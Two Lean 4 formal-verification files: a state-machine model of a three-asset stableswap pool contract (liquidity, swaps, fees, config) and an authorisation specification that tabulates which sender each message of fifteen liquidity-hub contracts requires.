  let spread := if offer > ret then offer - ret else ret - offer
  let sf ← u256MulDec ret f.swap
  let pf ← u256MulDec ret f.prot
  let bf ← u256MulDec ret f.burn
  let r1 ← psub ret sf
  let r2 ← psub r1 pf
  let r3 ← psub r2 bf
  let r3 ← to128 r3
  let spread ← to128 spread
  let sf ← to128 sf
  let pf ← to128 pf
  let bf ← to128 bf
  pure { ret := r3, spread := spread, swapFee := sf, protFee := pf, burnFee := bf }

/-- `helpers::assert_slippage_tolerance` (tolerance as `Decimal` atomics) -/
def assertSlippage (slip : Option Nat) (d0 d1 d2 p0 p1 p2 amount supply : Nat) : Res Unit :=
  match slip with
  | none => .ok ()
  | some s =>
    if s > E18 then .err else do
      let om := E18 - s
      let pt ← cadd U256MAX p0 p1
      let pt ← cadd U256MAX pt p2
      let dt ← cadd U256MAX d0 d1
      let dt ← cadd U256MAX dt d2
      let pr ← dec256FromRatio pt supply
      let dr ← dec256FromRatio dt amount
      let x ← (if pr * om / E18 ≤ U256MAX then Res.ok (pr * om / E18) else Res.panic)
      if x > dr then .err else .ok ()

/-- `pool_network::swap::assert_max_spread` (`DEFAULT_SLIPPAGE` 0.01, `MAX_ALLOWED_SLIPPAGE` 0.5;
    `return_amount` here is proceeds + fees, as the 3pool passes it) -/
def assertMaxSpread (belief maxSpread : Option Nat) (offer ret spread : Nat) : Res Unit :=
  let ms := min (maxSpread.getD (E18 / 100)) (E18 / 2)
  match belief with
  | some bp =>
    if bp = 0 then .err else do
      let expected ← u128MulDec offer (E18 * E18 / bp)
      if ret < expected then do
        let r ← dec256FromRatio (expected - ret) expected
        if r > ms then .err else .ok ()
      else .ok ()
  | none => do
    let den ← padd U128MAX ret spread
    let r ← dec256FromRatio spread den
    if r > ms then .err else .ok ()

/-! ## the contract as a state machine -/

@[inline] def upd (f : Nat → Nat) (i x : Nat) : Nat → Nat := fun j => if j = i then x else f j
@[inline] def upd2 (f : Nat → Nat → Nat) (a i x : Nat) : Nat → Nat → Nat :=
  fun b j => if b = a ∧ j = i then x else f b j

/--
  Accounts are numbered: `0..3` users, `4` the initial fee collector, `5` the initial owner
  (anybody may send anything; `owner` / `collector` say who currently holds the role).
  Assets `0,1,2` are the pool's; any other index is a foreign asset.
-/
structure St where
  /-- asset kind: `true` = native coin, `false` = cw20 -/
  kind : Nat → Bool
  /-- the pool contract's token balances -/
  bal : Nat → Nat
  /-- account balances `ub account asset` -/
  ub : Nat → Nat → Nat
  /-- total supply of each asset (drops on burns) -/
  sup : Nat → Nat
  /-- `COLLECTED_PROTOCOL_FEES` -/
  pend : Nat → Nat
  /-- `ALL_TIME_COLLECTED_PROTOCOL_FEES` -/
  allTime : Nat → Nat
  /-- `ALL_TIME_BURNED_FEES` -/
  burned : Nat → Nat
  /-- LP token: total supply, amount held by the pool contract itself, amounts held by accounts -/
  lpSup : Nat
  lpPool : Nat
  lp : Nat → Nat
  fees : Fees
  depOn : Bool
  wdOn : Bool
  swOn : Bool
  amp : AmpCfg
  owner : Nat
  collector : Nat
  /-- GHOST (C07): Σ protocol fees charged by swaps, Σ sent to the collector, Σ burned, per asset -/
  charged : Nat → Nat
  sent : Nat → Nat
  burnedSum : Nat → Nat

inductive Op where
  | provide (d0 d1 d2 : Nat) (slip : Option Nat) (recv : Option Nat)
  | withdraw (amt : Nat)
  | swap (offer ask amt : Nat) (belief maxSpread : Option Nat) (to : Option Nat)
  | collect
  | updateConfig (owner collector : Option Nat) (fees : Option Fees)
      (tog : Option (Bool × Bool × Bool)) (ramp : Option (Nat × Nat))
  | donate (i amt : Nat)
  /-- messages a cw20-LP pool must refuse whatever they carry: `ExecuteMsg::WithdrawLiquidity {}` sent
      directly with any attached coins (`kind = 0`; it is the token-factory entry point: the LP denom
      it compares with is empty, `contract.rs`), a `WithdrawLiquidity` hook arriving from a token that
      is not the LP token (`kind = 1`; `OperationDisabled` / `Unauthorized`, `commands::receive_cw20`),
      a `Swap` hook arriving from the LP token, which is not a pool asset (`kind = 2`).
      `a` = what was attached / which token, `amt` = the amount -/
  | foreign (kind a amt : Nat)

/-- account `u` → pool, asset `i` (bank send / cw20 transfer; the debit is checked) -/
def moveIn (s : St) (u i amt : Nat) : Res St :=
  if s.ub u i < amt then .err
  else .ok { s with ub := upd2 s.ub u i (s.ub u i - amt), bal := upd s.bal i (s.bal i + amt) }

/-- native coins attached to an execute message (zero coins are not attached) -/
def fundsIn (s : St) (u i amt : Nat) : Res St :=
  if s.kind i && amt != 0 then moveIn s u i amt else .ok s

/-- cw20 `TransferFrom` emitted by `provide_liquidity` (allowances are unlimited in the harness) -/
def pullCw20 (s : St) (u i amt : Nat) : Res St :=
  if s.kind i then .ok s else moveIn s u i amt

/-- pool → account `to`, asset `i` (`Asset::into_msg`): a native send of 0 coins fails -/
def payOut (s : St) (i to amt : Nat) : Res St :=
  if s.kind i && amt == 0 then .err
  else if s.bal i < amt then .err
  else .ok { s with bal := upd s.bal i (s.bal i - amt), ub := upd2 s.ub to i (s.ub to i + amt) }

/-- pool burns `amt` of asset `i` (`Asset::into_burn_msg`) -/
def burnOut (s : St) (i amt : Nat) : Res St :=
  if s.kind i && amt == 0 then .err
  else if s.bal i < amt then .err
  else .ok { s with bal := upd s.bal i (s.bal i - amt), sup := upd s.sup i (s.sup i - amt) }

/-- cw20 LP `Mint` to an account (`total_supply += amount` panics on overflow) -/
def mintLp (s : St) (to amt : Nat) : Res St := do
  let sup ← padd U128MAX s.lpSup amt
  pure { s with lpSup := sup, lp := upd s.lp to (s.lp to + amt) }

/-- cw20 LP `Mint` to the pool contract itself (the minimum-liquidity lock) -/
def mintLpPool (s : St) (amt : Nat) : Res St := do
  let sup ← padd U128MAX s.lpSup amt
  pure { s with lpSup := sup, lpPool := s.lpPool + amt }

/-- the pool amount `provide_liquidity` works with: balance − (native: deposit) − pending fee -/
def poolForDeposit (s : St) (i d : Nat) : Res Nat := do
  let p ← (if s.kind i then csub (s.bal i) d else Res.ok (s.bal i))
  csub p (s.pend i)

/-- `commands::provide_liquidity` -/
def provide (s : St) (h u d0 d1 d2 : Nat) (slip recv : Option Nat) : Res St := do
  let s ← fundsIn s u 0 d0
  let s ← fundsIn s u 1 d1
  let s ← fundsIn s u 2 d2
  guardErr s.depOn
  guardErr (d0 != 0 && d1 != 0 && d2 != 0)
  let p0 ← poolForDeposit s 0 d0
  let p1 ← poolForDeposit s 1 d1
  let p2 ← poolForDeposit s 2 d2
  if s.lpSup = 0 then do
    let minLp := WW.Gen.MINIMUM_LIQUIDITY_AMOUNT * 3
    let d ← unwrapP (computeD s.amp h d0 d1 d2)
    let d ← to128P d
    let share ← csub d minLp
    guardErr (share != 0)
    let s ← pullCw20 s u 0 d0
    let s ← pullCw20 s u 1 d1
    let s ← pullCw20 s u 2 d2
    let s ← mintLpPool s minLp
    mintLp s (recv.getD u) share
  else do
    let amount ← unwrapP (mintAmount s.amp h d0 d1 d2 p0 p1 p2 s.lpSup)
    assertSlippage slip d0 d1 d2 p0 p1 p2 amount s.lpSup
    let s ← pullCw20 s u 0 d0
    let s ← pullCw20 s u 1 d1
    let s ← pullCw20 s u 2 d2
    mintLp s (recv.getD u) amount

/-- refund of asset `i` for a withdrawal with `share_ratio = ratio` -/
def refundOf (s : St) (i ratio : Nat) : Res Nat := do
  let r ← csub (s.bal i) (s.pend i)
  u128MulDec r ratio

/-- cw20 LP `Send{WithdrawLiquidity}` → `commands::withdraw_liquidity` -/
def withdraw (s : St) (u amt : Nat) : Res St := do
  -- cw20 Send: LP moves from the sender to the pool contract, then the hook runs
  guardErr (amt ≤ s.lp u)
  let s := { s with lp := upd s.lp u (s.lp u - amt), lpPool := s.lpPool + amt }
  guardErr s.wdOn
  let ratio ← dec128FromRatio amt s.lpSup
  let r0 ← refundOf s 0 ratio
  let r1 ← refundOf s 1 ratio
  let r2 ← refundOf s 2 ratio
  let s ← payOut s 0 u r0
  let s ← payOut s 1 u r1
  let s ← payOut s 2 u r2
  -- cw20 Burn by the pool contract from its own LP balance
  guardErr (amt ≤ s.lpPool ∧ amt ≤ s.lpSup)
  pure { s with lpPool := s.lpPool - amt, lpSup := s.lpSup - amt }

/-- offer / ask / unswapped pool indices as `commands::swap` and the queries select them -/
def select (offer ask : Nat) : Res (Nat × Nat × Nat) :=
  if ask = 0 then
    if offer = 1 then .ok (1, 0, 2) else if offer = 2 then .ok (2, 0, 1) else .err
  else if ask = 1 then
    if offer = 0 then .ok (0, 1, 2) else if offer = 2 then .ok (2, 1, 0) else .err
  else if ask = 2 then
    if offer = 0 then .ok (0, 2, 1) else if offer = 1 then .ok (1, 2, 0) else .err
  else .err

/-- the swap computation on the pools `p` (already net of pending fees and of the offer) -/
def swapOn (s : St) (h : Nat) (p : Nat → Nat) (offer ask amt : Nat) : Res (Nat × SwapComp) := do
  let (o, a, n) ← select offer ask
  let c ← computeSwap s.amp h (p o) (p a) (p n) amt s.fees
  pure (a, c)

/-- `queries::query_simulation`: pools are balance − pending fee -/
def simulate (s : St) (h offer ask amt : Nat) : Res SwapComp := do
  let p0 ← csub (s.bal 0) (s.pend 0)
  let p1 ← csub (s.bal 1) (s.pend 1)
  let p2 ← csub (s.bal 2) (s.pend 2)
  let (_, c) ← swapOn s h (fun i => if i = 0 then p0 else if i = 1 then p1 else p2) offer ask amt
  pure c

/-- the execute-side pool of asset `i`: balance − pending fee − (offer asset: the offer) -/
def poolForSwap (s : St) (offer amt i : Nat) : Res Nat := do
  let p ← csub (s.bal i) (s.pend i)
  if i = offer then csub p amt else .ok p

/-- `ExecuteMsg::Swap` (native offer) / cw20 `Send{Swap}` (cw20 offer) → `commands::swap` -/
def swap (s : St) (h u offer ask amt : Nat) (belief maxSpread to : Option Nat) : Res St := do
  -- a foreign offer asset: the funds move and the handler answers AssetMismatch → reverted
  guardErr (offer < 3)
  -- the offer lands first: native funds attached to the message, or the cw20 `Send`
  let s ← (if s.kind offer then fundsIn s u offer amt else moveIn s u offer amt)
  guardErr s.swOn
  let p0 ← poolForSwap s offer amt 0
  let p1 ← poolForSwap s offer amt 1
  let p2 ← poolForSwap s offer amt 2
  let (a, c) ← swapOn s h (fun i => if i = 0 then p0 else if i = 1 then p1 else p2) offer ask amt
  let fees ← cadd U128MAX c.swapFee c.protFee
  let fees ← cadd U128MAX fees c.burnFee
  let gross ← cadd U128MAX c.ret fees
  assertMaxSpread belief maxSpread amt gross c.spread
  -- ledger writes inside the handler (`Uint128 +` panics on overflow)
  let burned ← (if c.burnFee != 0 then padd U128MAX (s.burned a) c.burnFee else Res.ok (s.burned a))
  let pend ← padd U128MAX (s.pend a) c.protFee
  let allTime ← padd U128MAX (s.allTime a) c.protFee
  let s := { s with burned := upd s.burned a burned, pend := upd s.pend a pend,
                    allTime := upd s.allTime a allTime,
                    charged := upd s.charged a (s.charged a + c.protFee) }
  -- messages: proceeds to the receiver (only if non-zero), then the burn (only if non-zero)
  let s ← (if c.ret != 0 then payOut s a (to.getD u) c.ret else Res.ok s)
  if c.burnFee != 0 then do
    let s ← burnOut s a c.burnFee
    pure { s with burnedSum := upd s.burnedSum a (s.burnedSum a + c.burnFee) }
  else pure s

/-- one entry of `commands::collect_protocol_fees` -/
def collectOne (s : St) (i : Nat) : Res St :=
  if s.pend i > WW.Gen.TRIO_MINIMUM_COLLECTABLE_BALANCE then do
    let amt := s.pend i
    let s ← payOut s i s.collector amt
    pure { s with pend := upd s.pend i 0, sent := upd s.sent i (s.sent i + amt) }
  else .ok s

/-- `commands::collect_protocol_fees` (anybody may call it) -/
def collect (s : St) : Res St := do
  let s ← collectOne s 0
  let s ← collectOne s 1
  collectOne s 2

/-- the `ramp` part of `commands::update_config`: validated against the amp in effect at height `h` -/
def rampAmp (A : AmpCfg) (h futureA futureBlock : Nat) : Res AmpCfg := do
  let cur ← unwrapP (A.at h)
  guardErr (WW.Gen.TRIO_MIN_AMP ≤ futureA)
  guardErr (futureA ≤ WW.Gen.TRIO_MAX_AMP)
  -- `(fa > cur) && (fa > cur * MAX_AMP_CHANGE) || (fa < cur) && (fa * MAX_AMP_CHANGE < cur)`,
  -- short-circuit evaluation, `u64` products panic on overflow
  let rejectUp ← (if futureA > cur then do
      let up ← pmul U64MAX cur WW.Gen.TRIO_MAX_AMP_CHANGE
      Res.ok (decide (futureA > up))
    else Res.ok false)
  let reject ← (if rejectUp then Res.ok true
    else if futureA < cur then do
      let dn ← pmul U64MAX futureA WW.Gen.TRIO_MAX_AMP_CHANGE
      Res.ok (decide (dn < cur))
    else Res.ok false)
  guardErr (!reject)
  let minBlock ← padd U64MAX h WW.Gen.TRIO_MIN_RAMP_BLOCKS
  guardErr (minBlock ≤ futureBlock)
  pure { init := cur, target := futureA, start := h, stop := futureBlock }

/-- `commands::update_config` -/
def updateConfig (s : St) (h u : Nat) (owner collector : Option Nat) (fees : Option Fees)
    (tog : Option (Bool × Bool × Bool)) (ramp : Option (Nat × Nat)) : Res St := do
  guardErr (u = s.owner)
  let s := match owner with | some o => { s with owner := o } | none => s
  let s ← (match fees with
    | some f => if f.valid then Res.ok { s with fees := f } else Res.err
    | none => Res.ok s)
  let s := match tog with
    | some (d, w, sw) => { s with depOn := d, wdOn := w, swOn := sw }
    | none => s
  let s ← (match ramp with
    | some (fa, fb) => do
      let A ← rampAmp s.amp h fa fb
      Res.ok { s with amp := A }
    | none => Res.ok s)
  let s := match collector with | some c => { s with collector := c } | none => s
  pure s

/-- a plain transfer into the pool (bank send / cw20 transfer): a native send of 0 coins fails -/
def donate (s : St) (u i amt : Nat) : Res St :=
  if i ≥ 3 then .err
  else if s.kind i && amt == 0 then .err
  else moveIn s u i amt

/-- one transaction at block height `h` sent by account `u`; a failed one leaves the state as it was -/
def step (h u : Nat) (s : St) : Op → Res St
  | .provide d0 d1 d2 slip recv => provide s h u d0 d1 d2 slip recv
  | .withdraw amt => withdraw s u amt
  | .swap offer ask amt belief ms to => swap s h u offer ask amt belief ms to
  | .collect => collect s
  | .updateConfig o c f t r => updateConfig s h u o c f t r
  | .donate i amt => donate s u i amt
  | .foreign _ _ _ => .err

/-- a history: operations with their block height and sender; failed operations are skipped -/
def run (s : St) : List (Nat × Nat × Op) → St
  | [] => s
  | (h, u, op) :: rest =>
    match step h u s op with
    | .ok s' => run s' rest
    | _ => run s rest

/-- `contract::instantiate` at height `h0` by account `5`, every account holding `fund a i` -/
def mkInit (kind : Nat → Bool) (fees : Fees) (amp h0 : Nat) (fund : Nat → Nat → Nat)
    (sup : Nat → Nat) : Res St := do
  guardErr fees.valid
  guardErr (WW.Gen.TRIO_MIN_AMP ≤ amp)
  guardErr (amp ≤ WW.Gen.TRIO_MAX_AMP)
  pure {
    kind := kind, bal := fun _ => 0, ub := fund, sup := sup,
    pend := fun _ => 0, allTime := fun _ => 0, burned := fun _ => 0,
    lpSup := 0, lpPool := 0, lp := fun _ => 0,
    fees := fees, depOn := true, wdOn := true, swOn := true,
    amp := { init := amp, target := amp, start := h0, stop := h0 },
    owner := 5, collector := 4,
    charged := fun _ => 0, sent := fun _ => 0, burnedSum := fun _ => 0 }

end WW.Trio
