/-
  C16 — authorisation model of the 15 liquidity-hub contracts.

  One data table (`requires`) transcribed from the `execute` entry points says, for every
  `ExecuteMsg` variant of every contract, which rule the sender must satisfy (`none` = permissionless).
  `step` is the guarded dispatch built on that table; a rejected call returns `err`, so the state is
  unchanged by construction (CosmWasm's all-or-nothing execution).

  The state carries, besides the configured owners, what else a sender check could (wrongly) depend on:
  `loan` — a flash loan of the vault is in flight (LOAN_COUNTER ≠ 0; calls nested in the borrower's
  callback see this state), and `flows` — the incentive contract's flows in storage order, because the
  designated sender of `CloseFlow` depends on WHICH stored flow the message names (by id or by a label that
  need not be unique).

  Names are the Rust names. Wrapped variants are flattened with an underscore in the constructor and
  a dot in the line-protocol name: `ExecuteMsg::Receive(Cw20HookMsg::Swap)` = `Receive_Swap` = "Receive.Swap",
  `ExecuteMsg::Callback(CallbackMsg::AfterTrade)` = `Callback_AfterTrade` = "Callback.AfterTrade".

  Import-free (core Lean only): linked into the native driver.
-/
import WW.Cw.Arith
import WW.Gen.Variants
namespace WW.Auth
open WW WW.Gen

/-! ## The fifteen contracts and their messages

  The `ExecuteMsg` variant types `FactoryMsg`, `PairMsg`, `TrioMsg`, `RouterMsg`, `IncentiveFactoryMsg`,
  `IncentiveMsg`, `FrontendHelperMsg`, `VaultFactoryMsg`, `VaultMsg`, `VaultRouterMsg`, `FeeCollectorMsg`,
  `FeeDistributorMsg`, `WhaleLairMsg`, `EpochManagerMsg` are REGENERATED from the Rust enums on every
  run (WW/Gen/Variants.lean, tools/extract_variants.py); every table below matches on them without a
  wildcard, so a variant added to or removed from the Rust breaks this file. -/

inductive Contract where
  | terraswap_factory | terraswap_pair | stableswap_3pool | terraswap_router | terraswap_token
  | incentive_factory | incentive | frontend_helper
  | vault_factory | vault | vault_router
  | fee_collector | fee_distributor | whale_lair | epoch_manager
deriving DecidableEq, Repr

/-- cw20::Cw20ExecuteMsg (terraswap_token forwards to cw20-base) -/
inductive TokenMsg where
  | Transfer | Burn | Send | IncreaseAllowance | DecreaseAllowance | TransferFrom | SendFrom
  | BurnFrom | Mint | UpdateMinter | UpdateMarketing | UploadLogo
deriving DecidableEq, Repr

/-- a message addressed to one of the fifteen contracts -/
inductive Msg where
  | terraswap_factory (v : FactoryMsg)
  | terraswap_pair (v : PairMsg)
  | stableswap_3pool (v : TrioMsg)
  | terraswap_router (v : RouterMsg)
  | terraswap_token (v : TokenMsg)
  | incentive_factory (v : IncentiveFactoryMsg)
  | incentive (v : IncentiveMsg)
  | frontend_helper (v : FrontendHelperMsg)
  | vault_factory (v : VaultFactoryMsg)
  | vault (v : VaultMsg)
  | vault_router (v : VaultRouterMsg)
  | fee_collector (v : FeeCollectorMsg)
  | fee_distributor (v : FeeDistributorMsg)
  | whale_lair (v : WhaleLairMsg)
  | epoch_manager (v : EpochManagerMsg)
deriving DecidableEq, Repr

def Msg.contract : Msg → Contract
  | .terraswap_factory _ => .terraswap_factory
  | .terraswap_pair _ => .terraswap_pair
  | .stableswap_3pool _ => .stableswap_3pool
  | .terraswap_router _ => .terraswap_router
  | .terraswap_token _ => .terraswap_token
  | .incentive_factory _ => .incentive_factory
  | .incentive _ => .incentive
  | .frontend_helper _ => .frontend_helper
  | .vault_factory _ => .vault_factory
  | .vault _ => .vault
  | .vault_router _ => .vault_router
  | .fee_collector _ => .fee_collector
  | .fee_distributor _ => .fee_distributor
  | .whale_lair _ => .whale_lair
  | .epoch_manager _ => .epoch_manager

/-! ## Who calls -/

/-- externally owned accounts of the cast -/
inductive Account where
  | initOwner   -- instantiated every top-level contract (the configured owner at genesis)
  | newOwner    -- receives ownership in the transfer
  | user        -- a stranger with funds
  | wasmAdmin   -- the wasm-level admin passed at instantiate (≠ the configured owner)
  | flowCreator -- opened incentive flows 1 and 3
  | otherFlowCreator -- opened incentive flows 2 and 4, which carry the SAME labels as flows 1 and 3
deriving DecidableEq, Repr

/-- an address: an account, one of the fifteen contracts (the instance under test), an LP token of the
    trio / vault (the pair's LP token *is* the `terraswap_token` instance under test), or the cw20
    asset token traded in the pair and the trio -/
inductive Principal where
  | acct (a : Account)
  | contract (c : Contract)
  | lpOf (c : Contract)
  | assetToken
  | borrower   -- a foreign contract that takes flash loans (the harness's borrower mock)
deriving DecidableEq, Repr

/-- caller roles of the matrix; a role is resolved relative to the target contract.
    `owner` is the account that instantiated the hub: it is "the owner" before the transfer and
    "the previous owner" after it; `newOwner` is a stranger before and the owner after. -/
inductive Role where
  | owner | newOwner | user | wasmAdmin | flowCreator
  | self | factory | sibling | feeDistributor | registeredVault | minter | lpToken | assetToken
  | hub (c : Contract)   -- each of the fifteen hub contracts as a caller ("every sibling", not a sample)
  | trioLp | vaultLp     -- the other two LP tokens
  | otherFlowCreator     -- owns other flows of the same incentive contract (same labels)
  | borrower             -- the borrowing contract itself
deriving DecidableEq, Repr

/-- the contract that created / administers `c` (for top-level contracts: just a foreign contract) -/
def factoryOf : Contract → Contract
  | .terraswap_pair | .stableswap_3pool | .terraswap_token | .terraswap_router => .terraswap_factory
  | .vault | .vault_router => .vault_factory
  | .incentive | .frontend_helper => .incentive_factory
  | .terraswap_factory => .vault_factory
  | _ => .terraswap_factory

/-- another hub contract that has no business calling `c`'s privileged entry points -/
def siblingOf : Contract → Contract
  | .terraswap_factory => .terraswap_router
  | .terraswap_pair => .stableswap_3pool
  | .stableswap_3pool => .terraswap_pair
  | .terraswap_router => .terraswap_pair
  | .terraswap_token => .stableswap_3pool
  | .incentive_factory => .frontend_helper
  | .incentive => .frontend_helper
  | .frontend_helper => .incentive
  | .vault_factory => .vault_router
  | .vault => .vault_router
  | .vault_router => .vault_factory
  | .fee_collector => .whale_lair
  | .fee_distributor => .whale_lair
  | .whale_lair => .fee_collector
  | .epoch_manager => .fee_distributor

/-- the cw20 LP token of `c` (pair → the `terraswap_token` instance under test) -/
def lpPrincipal : Contract → Principal
  | .stableswap_3pool => .lpOf .stableswap_3pool
  | .vault => .lpOf .vault
  | _ => .contract .terraswap_token

def resolve (c : Contract) : Role → Principal
  | .owner => .acct .initOwner
  | .newOwner => .acct .newOwner
  | .user => .acct .user
  | .wasmAdmin => .acct .wasmAdmin
  | .flowCreator => .acct .flowCreator
  | .self => .contract c
  | .factory => .contract (factoryOf c)
  | .sibling => .contract (siblingOf c)
  | .feeDistributor => .contract .fee_distributor
  | .registeredVault => .contract .vault
  | .minter => .contract .terraswap_pair
  | .lpToken => lpPrincipal c
  | .assetToken => .assetToken
  | .hub c' => .contract c'
  | .trioLp => .lpOf .stableswap_3pool
  | .vaultLp => .lpOf .vault
  | .otherFlowCreator => .acct .otherFlowCreator
  | .borrower => .borrower

/-! ## Stored objects a message can name: incentive flows -/

/-- `FlowIdentifier` of the message: by id, or by label (labels are abstracted to numbers; they are NOT
    unique); `none` = the message names no flow -/
inductive FlowSel where
  | none
  | id (n : Nat)
  | label (l : Nat)
deriving DecidableEq, Repr

/-- what the authorisation layer reads of a stored flow -/
structure Flow where
  id : Nat
  label : Option Nat
  creator : Principal
deriving DecidableEq, Repr

def Flow.matches (f : Flow) : FlowSel → Bool
  | .none => false
  | .id n => f.id == n
  | .label l => f.label == some l

/-! ## The table -/

/-- what the handler demands of `info.sender` -/
inductive AuthRule where
  | owner              -- the `owner` stored in this contract's config (cw-controllers Admin for epoch-manager)
  | self               -- `env.contract.address`
  | wasmAdmin          -- the wasm-level admin of this contract (router route management)
  | minter             -- cw20 minter
  | nobody             -- rejected for every sender (cw20 marketing is never set by terraswap_token)
  | feeDistributor     -- `config.fee_distributor` of the fee collector
  | registeredVault    -- a vault registered in the vault factory, calling about itself
  | lpToken            -- this contract's cw20 LP token (cw20 `Send` hook)
  | poolAssetToken     -- a cw20 asset of this pool (cw20 `Send` hook)
  | flowCreatorOrFactoryOwner -- incentive `CloseFlow`: the creator of THE FLOW THE MESSAGE DENOTES or the incentive factory's owner
deriving DecidableEq, Repr

/-- THE TABLE: contract × variant → rule the sender must satisfy (`none` = permissionless),
    transcribed from the `execute` entry points of contracts/liquidity_hub/**. -/
def requires : Msg → Option AuthRule
  -- terraswap_factory/src/contract.rs: owner check before the dispatch
  | .terraswap_factory _ => some .owner
  -- terraswap_pair/src/commands.rs
  | .terraswap_pair .Receive_Swap => some .poolAssetToken
  | .terraswap_pair .Receive_WithdrawLiquidity => some .lpToken
  | .terraswap_pair .UpdateConfig => some .owner
  | .terraswap_pair .ProvideLiquidity => none
  | .terraswap_pair .WithdrawLiquidity => none
  | .terraswap_pair .Swap => none
  | .terraswap_pair .CollectProtocolFees => none
  -- stableswap_3pool/src/commands.rs
  | .stableswap_3pool .Receive_Swap => some .poolAssetToken
  | .stableswap_3pool .Receive_WithdrawLiquidity => some .lpToken
  | .stableswap_3pool .UpdateConfig => some .owner
  | .stableswap_3pool .ProvideLiquidity => none
  | .stableswap_3pool .WithdrawLiquidity => none
  | .stableswap_3pool .Swap => none
  | .stableswap_3pool .CollectProtocolFees => none
  -- terraswap_router/src/{contract,operations}.rs — AssertMinimumReceive has NO sender check
  | .terraswap_router .ExecuteSwapOperation => some .self
  | .terraswap_router .AddSwapRoutes => some .wasmAdmin
  | .terraswap_router .RemoveSwapRoutes => some .wasmAdmin
  | .terraswap_router .Receive_ExecuteSwapOperations => none
  | .terraswap_router .ExecuteSwapOperations => none
  | .terraswap_router .AssertMinimumReceive => none
  -- cw20-base 1.1 contract.rs
  | .terraswap_token .Mint => some .minter
  | .terraswap_token .UpdateMinter => some .minter
  | .terraswap_token .UpdateMarketing => some .nobody
  | .terraswap_token .UploadLogo => some .nobody
  | .terraswap_token _ => none
  -- incentive_factory/src/contract.rs: owner check before the dispatch
  | .incentive_factory _ => some .owner
  -- incentive/src/execute/close_flow.rs
  | .incentive .CloseFlow => some .flowCreatorOrFactoryOwner
  | .incentive .TakeGlobalWeightSnapshot => none
  | .incentive .OpenFlow => none
  | .incentive .OpenPosition => none
  | .incentive .ExpandPosition => none
  | .incentive .ClosePosition => none
  | .incentive .Withdraw => none
  | .incentive .Claim => none
  | .incentive .ExpandFlow => none
  -- frontend_helper/src/contract.rs
  | .frontend_helper .UpdateConfig => some .owner
  | .frontend_helper .Deposit => none
  -- vault_factory/src/contract.rs: owner check before the dispatch
  | .vault_factory _ => some .owner
  -- vault/src/execute/{update_config,receive,callback}
  | .vault .UpdateConfig => some .owner
  | .vault .Receive_Withdraw => some .lpToken
  | .vault .Callback_AfterTrade => some .self
  | .vault .Deposit => none
  | .vault .Withdraw => none
  | .vault .FlashLoan => none
  | .vault .CollectProtocolFees => none
  -- vault_router/src/execute/*
  | .vault_router .UpdateConfig => some .owner
  | .vault_router .NextLoan => some .registeredVault
  | .vault_router .CompleteLoan => some .self
  | .vault_router .FlashLoan => none
  -- fee_collector/src/commands.rs
  | .fee_collector .UpdateConfig => some .owner
  | .fee_collector .ForwardFees => some .feeDistributor
  | .fee_collector .CollectFees => none
  | .fee_collector .AggregateFees => none
  -- fee_distributor/src/commands.rs
  | .fee_distributor .UpdateConfig => some .owner
  | .fee_distributor .NewEpoch => none
  | .fee_distributor .Claim => none
  -- whale_lair/src/commands.rs
  | .whale_lair .UpdateConfig => some .owner
  | .whale_lair .Bond => none
  | .whale_lair .Unbond => none
  | .whale_lair .Withdraw => none
  -- epoch-manager/src/commands.rs (cw_controllers::Admin / Hooks)
  | .epoch_manager .AddHook => some .owner
  | .epoch_manager .RemoveHook => some .owner
  | .epoch_manager .UpdateConfig => some .owner
  | .epoch_manager .CreateEpoch => none

/-- what the property demands beyond the code: the router's minimum-receive callback is meant to be
    internal ("can only be called internally by the router contract") -/
def intended : Msg → Option AuthRule
  | .terraswap_router .AssertMinimumReceive => some .self
  | m => requires m

/-! ## State and guarded dispatch -/

/-- the state the authorisation layer reads (or could wrongly read): the configured owner of every
    contract (router, token and incentive store none; their entry is never read by a rule of theirs),
    whether a flash loan of the vault is in flight, and the incentive contract's flows in storage order
    (key `(start_epoch, flow_id)`, ascending). -/
structure St where
  owner : Contract → Principal
  loan : Bool
  flows : List Flow

/-- the flows the harness opens (hub.rs FLOW_WORLD), in STORAGE order: flow 3 starts one epoch later than
    flow 4, so it comes last. Label 0 ("shared") denotes flow 1 although flow 2 carries it too; label 1
    ("late") denotes flow 4 although flow 3 carries it too. -/
def initFlows : List Flow :=
  [ ⟨1, some 0, .acct .flowCreator⟩, ⟨2, some 0, .acct .otherFlowCreator⟩,
    ⟨4, some 1, .acct .otherFlowCreator⟩, ⟨3, some 1, .acct .flowCreator⟩ ]

/-- genesis: top-level contracts are owned by their instantiator, children by their factory; no loan -/
def St.init : St where
  owner := fun c => match c with
    | .terraswap_pair | .stableswap_3pool => .contract .terraswap_factory
    | .vault => .contract .vault_factory
    | _ => .acct .initOwner
  loan := false
  flows := initFlows

def St.setOwner (s : St) (c : Contract) (p : Principal) : St :=
  { s with owner := fun c' => if c' = c then p else s.owner c' }

/-- the same state seen from inside a flash-loan callback of the vault / from outside -/
def St.withLoan (s : St) (b : Bool) : St := { s with loan := b }

/-- the flow a message denotes: the FIRST match in storage order
    (incentive/src/execute/close_flow.rs: `FLOWS.range(.., Ascending) … .find(..)`) -/
def St.resolve (s : St) (sel : FlowSel) : Option Flow := s.flows.find? (fun f => f.matches sel)

/-- does principal `p` satisfy `rule` on contract `c` in state `s`, for a message naming flow `sel` -/
def holds (s : St) (c : Contract) (sel : FlowSel) : AuthRule → Principal → Bool
  | .owner, p => p == s.owner c
  | .self, p => p == .contract c
  | .wasmAdmin, p => p == .acct .wasmAdmin
  | .minter, p => p == .contract .terraswap_pair
  | .nobody, _ => false
  | .feeDistributor, p => p == .contract .fee_distributor
  | .registeredVault, p => p == .contract .vault
  | .lpToken, p => p == lpPrincipal c
  | .poolAssetToken, p => p == .assetToken
  -- no such flow: the handler fails with NonExistentFlow BEFORE it looks at the sender (nothing to guard)
  | .flowCreatorOrFactoryOwner, p =>
    match s.resolve sel with
    | some f => p == f.creator || p == s.owner .incentive_factory
    | none => true

/-- entry points that refuse EVERY sender while a loan of the vault is in flight, with the contract's
    `Unauthorized` error: a nested loan on the same vault (vault/src/execute/flash_loan.rs, fix F10).
    (`Deposit` is refused in that state too, with `DepositDuringLoan`, i.e. past the sender check.) -/
def loanGuarded : Msg → Bool
  | .vault .FlashLoan => true
  | _ => false

/-- table lookup: the specification of the authorisation layer. Apart from the nested-loan guard the
    verdict does not look at `s.loan`, and it looks at `s.flows` only through the flow the message denotes. -/
def admitsP (s : St) (m : Msg) (sel : FlowSel) (p : Principal) : Bool :=
  !(s.loan && loanGuarded m) &&
  match requires m with
  | none => true
  | some rule => holds s m.contract sel rule p

